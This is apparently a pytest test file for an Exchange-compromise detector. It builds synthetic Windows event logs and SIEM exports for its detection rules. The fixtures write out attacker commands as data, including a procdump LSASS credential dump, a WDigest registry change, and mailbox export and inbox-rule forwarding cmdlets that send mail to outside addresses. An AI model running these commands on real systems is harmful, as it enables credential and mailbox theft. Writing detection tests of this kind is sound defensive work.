# ruff: noqa: E501  (event values are kept whole on purpose)
"""Event logs of a triage copy: every channel from EVTX written here the way Windows writes
it (`evtx_writer.py`), the same events as SIEM exports, damaged and cut files."""

from __future__ import annotations

import json
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from evtx_writer import event, evtx_bytes, record_offsets, write_evtx  # type: ignore[import-not-found]

from exwatch.cli import main
from exwatch.hostcheck.checker import run_hostcheck
from exwatch.hostcheck.parsers.eventexport import EventExportParser
from exwatch.hostcheck.parsers.events import record_from_event
from exwatch.hostcheck.records import FileStats, Kind

LOGS = "C/Windows/System32/winevt/Logs"
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
EX = "C:\\Program Files\\Microsoft\\Exchange Server\\V15"


def sysmon(event_id: int, record_id: int = 1, **data: str):
    return event(
        channel=SYSMON[0], provider=SYSMON[1], event_id=event_id, data=data, record_id=record_id
    )


def cmdlet(name: str, params: str, event_id: int = 1, record_id: int = 1):
    data = [name, params, "contoso.local/Users/Administrator", "S-1-5-21-1-2-3-500", "S-1-5-21-1-2-3-500",
            "Remote-PowerShell-Unknown", "8372 w3wp#MSExchangePowerShellAppPool", "", "54"]  # fmt: skip
    return event(channel="MSExchange Management", provider="MSExchange CmdletLogs", event_id=event_id,
                 level=2 if event_id == 6 else 4, data=data, record_id=record_id)  # fmt: skip


def triage_copy(root: Path) -> Path:
    """A KAPE-like copy with every event channel, one attack step in each."""
    write_evtx(root / LOGS / "Microsoft-Windows-Sysmon%4Operational.evtx", [
        sysmon(1, 1, Image="C:\\Windows\\System32\\cmd.exe", CommandLine="cmd /c whoami", ParentImage=W3WP,
               ParentCommandLine=f'{W3WP} -ap "MSExchangeOWAAppPool"'),
        sysmon(1, 2, Image="C:\\Windows\\System32\\whoami.exe", CommandLine="whoami", ParentImage="C:\\Windows\\System32\\cmd.exe"),
        sysmon(11, 3, Image="System", TargetFilename=f"{EX}\\FrontEnd\\HttpProxy\\owa\\auth\\ohyeah.aspx"),
        sysmon(11, 4, Image="C:\\Windows\\System32\\msiexec.exe", TargetFilename=f"{EX}\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx"),
        sysmon(13, 5, EventType="SetValue", Image="C:\\Windows\\System32\\reg.exe",
               TargetObject="HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
               Details="DWORD (0x00000001)"),
        sysmon(3, 6, Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", Initiated="true",
               DestinationIp="203.0.113.7", DestinationPort="443"),
        sysmon(10, 7, SourceImage="C:\\Windows\\System32\\rundll32.exe", TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess="0x1FFFFF"),
        sysmon(23, 8, Image="C:\\Windows\\System32\\cmd.exe",
               TargetFilename=f"{EX}\\Logging\\CmdletInfra\\LocalPowerShell\\Cmdlet\\LocalPowerShell_Cmdlet_2021031400-1.LOG"),
    ])  # fmt: skip
    write_evtx(root / LOGS / "Security.evtx", [
        event(channel="Security", provider="Microsoft-Windows-Security-Auditing", event_id=4688, record_id=1, data={
            "NewProcessName": "C:\\ProgramData\\procdump64.exe", "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "procdump64.exe -accepteula -ma lsass.exe c:\\windows\\temp\\lsass.dmp"}),
        event(channel="Security", provider="Microsoft-Windows-Security-Auditing", event_id=4624, record_id=2, data={
            "TargetUserName": "HealthMailbox0c2d4e2b", "LogonType": "10", "IpAddress": "203.0.113.9"}),
        event(channel="Security", provider="Microsoft-Windows-Security-Auditing", event_id=4624, record_id=3, data={
            "TargetUserName": "alice", "LogonType": "3", "IpAddress": "10.0.0.9"}),
        event(channel="Security", provider="Microsoft-Windows-Eventlog", event_id=1102, record_id=4,
              user_data={"LogFileCleared": {"SubjectUserName": "Administrator"}}),
    ])  # fmt: skip
    write_evtx(root / LOGS / "System.evtx", [
        event(channel="System", provider="Service Control Manager", event_id=7045, data={
            "ServiceName": "WwanSvcdcs", "ImagePath": "C:\\Windows\\Temp\\cw.exe", "ServiceType": "user mode service",
            "StartType": "auto start", "AccountName": "LocalSystem"}),
    ])  # fmt: skip
    write_evtx(root / LOGS / "Microsoft-Windows-PowerShell%4Operational.evtx", [
        event(channel="Microsoft-Windows-PowerShell/Operational", provider="Microsoft-Windows-PowerShell", event_id=4104,
              data={"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText":
                    "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ceo -FilePath \\\\EXCH01\\c$\\ProgramData\\ceo.pst"}),
    ])  # fmt: skip
    write_evtx(root / LOGS / "Microsoft-Windows-Windows Defender%4Operational.evtx", [
        event(channel="Microsoft-Windows-Windows Defender/Operational", provider="Microsoft-Windows-Windows Defender",
              event_id=1116, data={"Threat Name": "Exploit:Script/Exmann.A!dha",
                                   "Path": "file:_C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx"}),
    ])  # fmt: skip
    write_evtx(root / LOGS / "Application.evtx", [
        event(channel="Application", provider="MSExchange Control Panel", event_id=4, level=2, data=[
            "azsentinel.local/Users/wardog", "https://mxs01:444/ecp/about.aspx?a=]:444/ecp/tpy.js(https://localhost/ecp/tpy.js)",
            "System.Web.HttpUnhandledException"]),
    ])  # fmt: skip
    write_evtx(root / LOGS / "MSExchange Management.evtx", [
        cmdlet("Install-TransportAgent", '-Name "Evil" -AssemblyPath "C:\\ProgramData\\a.dll" -TransportAgentFactory "x"', 6, 1),
        cmdlet("New-InboxRule", '-Mailbox "ceo" -Name "." -ForwardTo "drop@example.net"', 1, 2),
        cmdlet("New-MailboxExportRequest", '-Mailbox "ceo" -FilePath "\\\\203.0.113.50\\share\\ceo.pst"', 1, 3),
        cmdlet("Get-App", '-Mailbox "alice"', 6, 4),
        cmdlet("Get-Mailbox", '-ResultSize "1"', 1, 5),
    ])  # fmt: skip
    return root


EXPECTED = {
    "webserver-spawns-shell": 1,
    "script-file-created-in-web-folder": 1,
    "wdigest-logon-credential-enabled": 1,
    "shell-connects-to-internet": 1,
    "lsass-access-by-web-or-dump-tool": 1,
    "exchange-or-iis-log-deleted": 1,
    "lsass-dump-command": 1,
    "exchange-account-interactive-logon": 1,
    "event-log-cleared": 1,
    "service-installed-from-odd-path": 1,
    "powershell-exchange-abuse-script": 1,
    "defender-webshell-detection": 1,
    "ecp-error-with-ssrf-url": 1,
    "transport-agent-installed": 1,
    "inbox-rule-forwarding-remote-powershell": 1,
    "mailbox-export-to-share": 1,
    "cve-2021-42321-deserialisation": 1,
}


def test_every_channel_of_a_triage_copy(tmp_path: Path) -> None:
    result = run_hostcheck(triage_copy(tmp_path))
    assert Counter(f.rule for f in result.findings) == EXPECTED
    report = result.to_json()
    sources = report["coverage"]["sources"]
    for name in ("evtx:sysmon", "evtx:security", "evtx:system", "evtx:powershell", "evtx:defender",
                 "evtx:application", "evtx:msexchange-management"):  # fmt: skip
        assert sources[name]["state"] == "read", name
    stages = report["coverage"]["stages"]
    assert all(stages[s]["covered"] for s in ("execution", "persistence", "exfiltration"))
    assert stages["initial-access"]["read"] == ["evtx:application"]
    shell = next(f for f in result.findings if f.rule == "webserver-spawns-shell")
    assert shell.timestamp == "2021-03-14T01:40:15.342000Z"
    assert shell.details["event"]["channel"] == SYSMON[0]


def test_events_as_siem_exports_give_the_same_findings(tmp_path: Path) -> None:
    """The Sysmon process event as each export shape responders get handed."""
    base = {
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": "cmd /c whoami",
        "ParentImage": W3WP,
    }
    xml = (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        "<Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID><Level>4</Level>"
        "<TimeCreated SystemTime='2021-03-14T01:40:15.342Z'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
        "<Computer>EXCH01</Computer></System><EventData>"
        + "".join(f"<Data Name='{k}'>{v}</Data>" for k, v in base.items())
        + "</EventData></Event>"
    )
    shapes = {
        # evtx_dump -o jsonl (the evtx package's own shape)
        "evtx_dump.jsonl": json.dumps({"Event": {"System": {"Provider": {"#attributes": {"Name": SYSMON[1]}}, "EventID": 1, "Level": 4,
            "TimeCreated": {"#attributes": {"SystemTime": "2021-03-14T01:40:15.342Z"}}, "Channel": SYSMON[0]}, "EventData": base}}) + "\n",
        # evtx_dump -o json: "Record N" lines between pretty objects
        "evtx_dump.json": "Record 1\n" + json.dumps({"Event": {"System": {"Provider": {"#attributes": {"Name": SYSMON[1]}}, "EventID": 1,
            "TimeCreated": {"#attributes": {"SystemTime": "2021-03-14T01:40:15.342Z"}}, "Channel": SYSMON[0]}, "EventData": base}}, indent=2) + "\n",
        # Sentinel / OTRF: flat, EventData names as keys
        "sentinel.json": json.dumps({"SourceName": SYSMON[1], "Channel": SYSMON[0], "EventID": 1, "TimeCreated": "2021-03-14T01:40:15.342Z", **base}) + "\n",
        # Sentinel Event table: EventData as an XML string
        "sentinel_event.json": json.dumps([{"EventLog": SYSMON[0], "Source": SYSMON[1], "EventID": 1, "TimeGenerated": "2021-03-14T01:40:15.342Z",
            "EventData": "<DataItem type='System.XmlData'><EventData xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>"
            + "".join(f"<Data Name='{k}'>{v}</Data>" for k, v in base.items()) + "</EventData></DataItem>"}]),
        # Elastic (winlogbeat), as an Elasticsearch answer
        "elastic.json": json.dumps({"hits": {"hits": [{"_source": {"@timestamp": "2021-03-14T01:40:15.342Z", "winlog": {
            "channel": SYSMON[0], "provider_name": SYSMON[1], "event_id": "1", "event_data": base}}}]}}),
        # Splunk JSON export of XmlWinEventLog
        "splunk.json": json.dumps({"preview": False, "result": {"_raw": xml, "_time": "2021-03-14T01:40:15.342+00:00", "host": "EXCH01"}}) + "\n",
    }  # fmt: skip
    for name, text in shapes.items():
        copy = tmp_path / name.replace(".", "_")
        (copy / "siem").mkdir(parents=True)
        (copy / "siem" / name).write_text(text)
        result = run_hostcheck(copy)
        assert [f.rule for f in result.findings] == ["webserver-spawns-shell"], name
        finding = result.findings[0]
        assert (finding.timestamp or "").startswith("2021-03-14T01:40:15"), name
        assert result.sources["evtx:sysmon"].records == 1, name


def test_exports_inside_zip_archives(tmp_path: Path) -> None:
    evtx = evtx_bytes(
        [
            sysmon(
                1,
                1,
                Image="C:\\Windows\\System32\\cmd.exe",
                CommandLine="cmd /c net user",
                ParentImage=W3WP,
            )
        ]
    )
    line = json.dumps({"SourceName": "MSExchange CmdletLogs", "Channel": "MSExchange Management", "EventID": 1, "Level": "4",
                       "TimeCreated": "2021-03-14T01:40:12.987Z", "Message": "Cmdlet suceeded. Cmdlet Install-TransportAgent, parameters -Name \"x\" -AssemblyPath \"C:\\ProgramData\\x.dll\"."})  # fmt: skip
    with zipfile.ZipFile(tmp_path / "collection.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("logs/Microsoft-Windows-Sysmon%4Operational.evtx", evtx)
        archive.writestr("siem/management.jsonl", line + "\n")
    result = run_hostcheck(tmp_path)
    assert Counter(f.rule for f in result.findings) == {
        "webserver-spawns-shell": 1,
        "transport-agent-installed": 1,
    }
    assert {f.file for f in result.findings} == {
        "collection.zip!logs/Microsoft-Windows-Sysmon%4Operational.evtx",
        "collection.zip!siem/management.jsonl",
    }


def test_damaged_evtx_loses_only_its_damaged_records(tmp_path: Path) -> None:
    """On main one bad record ended the file.  A damaged body costs that record; a damaged
    header or chunk signature is mended in a copy, so its record is read too."""
    events = [sysmon(1, i, Image="C:\\Windows\\System32\\cmd.exe", CommandLine=f"cmd /c echo {i}", ParentImage=W3WP)
              for i in range(1, 13)]  # fmt: skip
    blob = bytearray(evtx_bytes(events, records_per_chunk=4))
    offsets = record_offsets(bytes(blob))
    at = offsets[1]
    blob[at + 24 + 60 : at + 24 + 120] = b"\xff" * 60  # record 2: body
    blob[offsets[5] : offsets[5] + 4] = b"XXXX"  # record 6: signature
    blob[offsets[9] + 4 : offsets[9] + 8] = b"\xff\xff\x00\x00"  # record 10: size
    path = tmp_path / LOGS / "Microsoft-Windows-Sysmon%4Operational.evtx"
    path.parent.mkdir(parents=True)
    path.write_bytes(bytes(blob))
    result = run_hostcheck(tmp_path)
    lines = sorted(f.line or 0 for f in result.findings)
    assert lines == [1, *range(3, 13)]
    stats = result.files[0]
    assert stats.bad_lines == 1
    assert stats.bad_ranges == [[2, 2]]
    assert any("mended" in w for w in stats.warnings)


@pytest.mark.parametrize(
    "content",
    [b"", b"ElfFile\x00" + bytes(4088), b"this is not an event log\n" * 100],
    ids=["zero-bytes", "header-only", "garbage"],
)
def test_unreadable_event_logs_are_not_clean(
    tmp_path: Path, content: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 10 #9 / issue 14: such a copy was "clean", exit 0, on main."""
    path = tmp_path / LOGS / "Microsoft-Windows-Sysmon%4Operational.evtx"
    path.parent.mkdir(parents=True)
    path.write_bytes(content)
    assert main(["hostcheck", str(tmp_path), "--json"]) == 3
    report = json.loads(capsys.readouterr().out)
    assert report["status"] == "unreadable"
    assert report["coverage"]["sources"]["evtx:sysmon"]["state"] == "unreadable"
    assert report["coverage"]["stages"]["execution"]["unreadable"] == ["evtx:sysmon"]


def test_junk_in_an_export_is_counted_not_fatal() -> None:
    good = json.dumps({"SourceName": SYSMON[1], "Channel": SYSMON[0], "EventID": 1, "TimeCreated": "2021-03-14T01:40:15.342Z",
                       "Image": "C:\\Windows\\System32\\cmd.exe", "ParentImage": W3WP})  # fmt: skip
    text = "\n".join([good, "{not json", '{"metadata": true}', "garbage line", good]) + "\n"
    records, stats = EventExportParser().parse_text(text)
    assert len(records) == 2
    assert stats.bad_lines == 3


def test_cmdlet_from_rendered_message_when_export_has_no_event_data() -> None:
    rec = record_from_event(
        {"SourceName": "MSExchange CmdletLogs", "Channel": "MSExchange Management", "EventID": 1,
         "Message": 'Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "http://f/<script>" -Identity "OAB".'},
        "x", 1,
    )  # fmt: skip
    assert rec is not None
    assert rec.get("cmdlet") == "Set-OabVirtualDirectory"
    assert rec.get("parameters") == '-ExternalUrl "http://f/<script>" -Identity "OAB"'
    assert rec.kind is Kind.EVTX


def test_xml_with_doctype_is_refused() -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa">]><Event><System><EventID>1</EventID><Channel>&a;</Channel></System></Event>'
    assert record_from_event({"_raw": bomb}, "x", 1) is None
    stats = FileStats(file="x", kind=Kind.EVTX)
    assert stats.records == 0


def test_zip_members_too_compressed_are_listed_not_read(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("events.jsonl", b"\x00" * (4 << 20))  # about 1000:1
    result = run_hostcheck(tmp_path)
    assert result.files == []
    assert any(e.startswith("bomb.zip!events.jsonl:") for e in result.file_errors)
    assert result.status == "empty"
